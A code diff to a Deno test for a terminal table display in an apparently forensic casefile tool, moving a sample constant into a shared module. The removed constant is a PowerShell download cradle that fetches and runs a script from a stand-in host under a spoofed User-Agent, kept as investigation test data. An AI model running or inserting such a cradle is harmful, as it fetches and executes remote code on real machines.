@@ -6,14 +6,11 @@ import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import { programAvailable, Terminal } from "../_tmux.ts";
 import { tempDir } from "../_helpers.ts";
+import { CRADLE } from "../_demo_tables.ts";
 
 const ignore =
   !(await programAvailable("tmux", ["-V"]) && await programAvailable("less", ["--version"]));
 if (ignore) console.warn("tests/repl/display_tmux_test.ts: skipped, tmux or less is missing");
-
-/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
-const CRADLE = "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
-  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
 
 Deno.test({
   name: "in a terminal: .show a row to read the whole command line; a long table in less",
@@ -24,9 +21,7 @@ Deno.test({
     const home = await tempDir("casefile-display-");
     const term = new Terminal();
     try {
-      await term.start(["--home", home], { PAGER: "less -SRFX", LESS: "" });
-      const banner = await term.waitFor(/\n(demo-\d{8}-\d{6})>$/);
-      const prompt = /\n(demo-\d{8}-\d{6})>$/.exec(banner)![1] + ">";
+      const prompt = await term.startAtPrompt(["--home", home], { PAGER: "less -SRFX", LESS: "" });
       const atPrompt = (screen: string) => screen.endsWith(prompt);
 
       // The columns DeviceProcessEvents has, as the case's manifest records them.
